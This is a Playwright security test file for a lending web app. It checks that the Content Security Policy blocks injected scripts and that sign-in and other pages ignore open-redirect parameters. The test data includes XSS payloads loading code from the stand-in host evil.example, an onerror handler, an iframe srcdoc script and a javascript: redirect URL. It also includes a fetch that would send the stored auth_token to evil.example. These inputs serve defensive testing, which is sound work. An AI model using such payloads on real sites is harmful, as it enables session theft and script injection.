import type { Page } from '@playwright/test'
import { expect, test } from './fixtures.ts'
import { waitUntilHydrated } from './open-page.ts'

const evil = 'https://evil.example'

/** Injected markup: inline code, code from another origin, an event handler, a frame. */
const injected = [
  `<script>window.injected = 'inline script'</script>`,
  `<script src="${evil}/code.js"></script>`,
  `<script type="module">window.injected = 'inline module'</script>`,
  `<img src="data:," onerror="window.injected = 'handler'">`,
  `<iframe srcdoc="<script>parent.injected = 'frame'</script>"></iframe>`,
].join('')

type Watched = Window & { injected?: string; violations?: string[] }

/** Serves code from the foreign site, so that only the page's policy blocks it. Returns the requests to that site. */
async function watchForeignSite(page: Page): Promise<string[]> {
  const asked: string[] = []
  await page.route(`${evil}/**`, (route) => {
    asked.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: `window.injected = 'external script'` })
  })
  return asked
}

/** Adds the injected markup to the page's HTML, keeps the server's headers, and records policy violations. */
async function injectInto(page: Page, path: string) {
  await page.addInitScript(() => {
    const seen: string[] = []
    ;(window as Watched).violations = seen
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`)
    })
  })
  await page.route(`**${path}`, async (route) => {
    if (route.request().resourceType() !== 'document') return route.fallback()
    const response = await route.fetch()
    const html = await response.text()
    expect(html).toContain('</body>')
    return route.fulfill({ response, body: html.replace('</body>', `${injected}</body>`) })
  })
}

const readPage = (page: Page) =>
  page.evaluate(() => ({
    injected: (window as Watched).injected ?? null,
    violations: (window as Watched).violations ?? [],
  }))

test.describe('injected scripts', () => {
  test.use({ allow: [/Content Security Policy|ERR_BLOCKED_BY_CSP/] })

  for (const [kind, path] of [
    ['public', '/lenders'],
    ['signed-in', '/dashboard'],
  ] as const)
    test(`the policy of a ${kind} page blocks injected inline code, foreign code and event handlers [DATA-02]`, async ({
      page,
      app,
    }) => {
      const asked = await watchForeignSite(page)
      if (kind === 'signed-in') await app.signIn(page, await app.createInvestor({ verified: true, profile: true }))
      await injectInto(page, path)
      await page.goto(path)
      await waitUntilHydrated(page)
      await expect
        .poll(async () => (await readPage(page)).violations.join('\n'))
        .toMatch(/script-src-elem inline[\s\S]*script-src-attr inline/)
      const { injected: ran, violations } = await readPage(page)
      expect(ran).toBeNull()
      expect(violations).toContain(`script-src-elem ${evil}/code.js`)
      expect(asked).toEqual([])

      // A script that got into the page would load more scripts under the same policy.
      await page.evaluate((site) => {
        const inline = document.createElement('script')
        inline.textContent = `window.injected = 'added inline'`
        const external = document.createElement('script')
        external.src = `${site}/later.js`
        document.body.append(inline, external)
      }, evil)
      await expect.poll(async () => (await readPage(page)).violations).toContain(`script-src-elem ${evil}/later.js`)
      expect((await readPage(page)).injected).toBeNull()
      const sent = await page.evaluate(
        (site) =>
          fetch(`${site}/?${localStorage.getItem('auth_token')}`, { mode: 'no-cors' }).then(
            () => 'sent',
            () => 'blocked',
          ),
        evil,
      )
      expect(sent).toBe('blocked')
      expect(asked).toEqual([])
    })
})

test.describe('redirect parameters in the URL', () => {
  const targets = [`${evil}/`, '//evil.example/', '/\\evil.example/', 'javascript:window.injected="next"']
  const names = ['redirect', 'next', 'returnTo', 'return_to', 'continue', 'url', 'callbackUrl']
  const query = (target: string) => names.map((name) => `${name}=${encodeURIComponent(target)}`).join('&')

  test('sign-in always ends on this site, even when the URL names another', async ({ page, app }) => {
    const asked = await watchForeignSite(page)
    const { email, password } = await app.createInvestor({ verified: true, profile: true })
    for (const target of targets) {
      await page.goto(`/auth/login?${query(target)}`)
      await waitUntilHydrated(page)
      await page.getByLabel('Email', { exact: true }).fill(email)
      await page.getByLabel('Password', { exact: true }).fill(password)
      await page.getByRole('main').getByRole('button', { name: 'Sign In', exact: true }).click()
      await expect(page).toHaveURL(`${app.url}/dashboard`)
      expect((await readPage(page)).injected).toBeNull()
      await page.evaluate(() => localStorage.clear())
    }
    expect(asked).toEqual([])
  })

  test('no page redirects to another site', async ({ page, app }) => {
    const asked = await watchForeignSite(page)
    await app.signIn(page, await app.createInvestor({ verified: true, profile: true }))
    for (const path of ['/', '/auth', '/dashboard', '/lenders'])
      for (const target of [targets[1]!, targets[3]!]) {
        await page.goto(`${path}?${query(target)}`)
        await waitUntilHydrated(page)
        expect(new URL(page.url()).origin).toBe(app.url)
        expect((await readPage(page)).injected).toBeNull()
      }
    expect(asked).toEqual([])
  })
})
